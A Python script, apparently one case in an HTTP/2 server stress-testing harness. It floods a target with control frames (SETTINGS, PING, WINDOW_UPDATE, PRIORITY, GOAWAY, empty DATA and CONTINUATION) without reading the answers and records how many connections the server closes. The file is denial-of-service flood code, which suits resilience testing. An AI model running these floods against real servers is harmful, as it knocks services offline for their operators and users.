"""Frames that are legal and mean nothing, as fast as possible and without reading the answers: SETTINGS, PING,
WINDOW_UPDATE, PRIORITY, GOAWAY, empty DATA and CONTINUATION."""

from flood import Flood
from harness import CLASSIFY, MIB, Outcome, run
from http2 import CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, frame
from http2 import header_block, settings, window_update


def open_stream(connection):
    connection.stream = connection.next_stream()
    connection.send(frame(HEADERS, END_HEADERS, connection.stream, header_block(CLASSIFY)))


def open_headers(connection):
    connection.stream = connection.next_stream()
    connection.send(frame(HEADERS, 0, connection.stream, header_block(CLASSIFY)))


FORMS = {
    "SETTINGS": (open_stream, lambda c: settings((INITIAL_WINDOW_SIZE, 65535)) * 500),
    "PING": (open_stream, lambda c: frame(PING, 0, 0, b"12345678") * 500),
    "WINDOW_UPDATE": (open_stream, lambda c: window_update(c.stream, 1) * 500),
    "WINDOW_UPDATE by 0": (open_stream, lambda c: window_update(c.stream, 0) * 500),
    "PRIORITY": (open_stream, lambda c: frame(PRIORITY, 0, c.stream, b"\0\0\0\0\x10") * 500),
    "GOAWAY": (open_stream, lambda c: frame(GOAWAY, 0, 0, b"\0" * 8) * 500),
    "empty DATA": (open_stream, lambda c: frame(DATA, 0, c.stream) * 500),
    "empty CONTINUATION": (open_headers, lambda c: frame(CONTINUATION, 0, c.stream) * 500),
}


class Slice:
    """The target with a part of its time."""

    def __init__(self, target, seconds):
        import time

        self.port = target.port
        self.deadline = time.monotonic() + seconds
        self.time_left = lambda: self.deadline - time.monotonic()


def attack(target):
    texts = []
    for name, (begin, part) in FORMS.items():
        flood = Flood(Slice(target, 0.5), 1, 8 * MIB, begin, part, read=False)
        texts.append("%s: %.1f MiB, %d closed" % (name, flood.sent / MIB, flood.closed))
    return Outcome(", ".join(texts))


if __name__ == "__main__":
    run("control frames", attack, seconds=4.5)
